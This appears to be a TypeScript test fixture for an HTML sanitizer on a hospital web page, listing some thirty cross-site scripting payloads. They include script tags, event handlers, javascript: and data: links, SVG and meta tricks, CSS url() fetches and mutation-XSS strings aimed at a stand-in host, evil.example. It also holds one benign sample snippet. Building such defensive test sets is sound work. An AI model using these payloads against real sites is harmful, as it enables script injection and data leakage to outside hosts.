/** The host from which an attack would fetch; its name is not resolved anywhere. */
export const EVIL = 'https://evil.example/attack';

const RUN = 'parent.__xss=1;window.__xss=1;alert(1)';

/** Pieces of HTML that run a script, fetch something or open another page if they are shown unchanged. */
export const ATTACKS: Readonly<Record<string, string>> = {
  script: `<p>a</p><script>${RUN}</script><script src="${EVIL}"></script>`,
  'script in capitals, unclosed': `<ScRiPt>${RUN}`,
  'picture that fails': `<img src=x onerror="${RUN}"><img/src=\`x\`/onerror=${RUN}>`,
  'picture from elsewhere': `<img src="${EVIL}" srcset="${EVIL} 2x"><picture><source srcset="${EVIL}"><img></picture>`,
  'svg that loads': `<svg onload="${RUN}"></svg><svg><script>${RUN}</script><image href="${EVIL}"/></svg>`,
  'svg that is animated': `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>a</text></a></svg>`,
  'svg that uses another': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  'handlers of every kind': `<details open ontoggle="${RUN}">a</details><input autofocus onfocus="${RUN}"><video onerror="${RUN}"><source></video><body onload="${RUN}"><p onclick="${RUN}" onpointerover="${RUN}">a</p>`,
  'links that run': `<a href="javascript:${RUN}">a</a><a href=" &#106;ava&Tab;script:${RUN}">b</a><a href="vbscript:${RUN}">c</a><a href="data:text/html,<script>${RUN}</script>">d</a>`,
  'links that are sent': `<a href="${EVIL}" ping="${EVIL}" target="_top">a</a><area href="${EVIL}">`,
  'data addresses': `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="data:image/svg+xml,<svg onload='${RUN}'/>"><iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
  frames: `<iframe src="${EVIL}"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><frameset><frame src="${EVIL}"></frameset><portal src="${EVIL}"></portal>`,
  objects: `<object data="${EVIL}"></object><embed src="${EVIL}"><applet code="${EVIL}"></applet><audio src="${EVIL}" autoplay></audio><video poster="${EVIL}"></video>`,
  'meta that leads away': `<meta http-equiv="refresh" content="0;url=${EVIL}"><meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  'meta with a policy': `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *"><script>${RUN}</script>`,
  base: `<base href="https://evil.example/"><img src="attack"><script src="attack"></script><a href="attack">a</a>`,
  forms: `<form action="${EVIL}"><input name=a value=b><button>a</button></form><button formaction="javascript:${RUN}">b</button><isindex action="${EVIL}">`,
  'links of the head': `<link rel=stylesheet href="${EVIL}"><link rel=prefetch href="${EVIL}"><link rel=import href="${EVIL}"><link rel=icon href="${EVIL}">`,
  'style with addresses': `<style>@import '${EVIL}'; body { background: url(${EVIL}) } @font-face { font-family: a; src: url(${EVIL}) } * { font-family: a }</style><p>a</p>`,
  'style attributes with addresses': `<p style="background:url(${EVIL})">a</p><p style="background-image:u\\72l('${EVIL}')">b</p><p style="list-style:url(${EVIL});display:list-item">c</p><p style="border-image:url(${EVIL}) 1;border-style:solid">d</p><p style="content:image-set('${EVIL}' 1x);cursor:url(${EVIL}),auto">e</p><table background="${EVIL}"><td background="${EVIL}">f</table>`,
  'style over the page': `<div style="position:fixed;inset:0;z-index:9999;background:red">a</div>`,
  'mXSS by a listing': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'mXSS by foreign elements': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  'mXSS by forms': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  'mXSS by a select': `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${RUN}>">`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  template: `<template><script>${RUN}</script><img src="${EVIL}" onerror="${RUN}"></template><div><template shadowrootmode=open><img src="${EVIL}" onerror=${RUN}></template></div>`,
  'texts that end elements': `<title><img src=x onerror=${RUN}></title><textarea></textarea><img src=x onerror=${RUN}></textarea><xmp></xmp><img src=x onerror=${RUN}></xmp></body></html><script>${RUN}</script>`,
  'names of the document': `<form id=__xss name=body><input name=attributes><img name=createElement><a id=nodeName></a></form><img src=x onerror="${RUN}">`,
  'many levels': `${'<div>'.repeat(600)}<img src=x onerror="${RUN}">${'</div>'.repeat(600)}`,
};

/** A piece of HTML as the hospital writes it: all of it is shown. */
export const INNOCENT = `<h2>Jam layanan</h2>
<p style="text-align: center; color: #0b638e">Poliklinik <b>umum</b> &amp; <em>gigi</em></p>
<ul><li>Senin–Kamis 08.00–14.00</li><li>Jumat 08.00–11.30</li></ul>
<table border="1"><tr><th>Hari</th><td colspan="2">Sabtu</td></tr></table>
<a href="https://rsud.example/jadwal">Jadwal</a>
<img alt="titik" src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==">`;
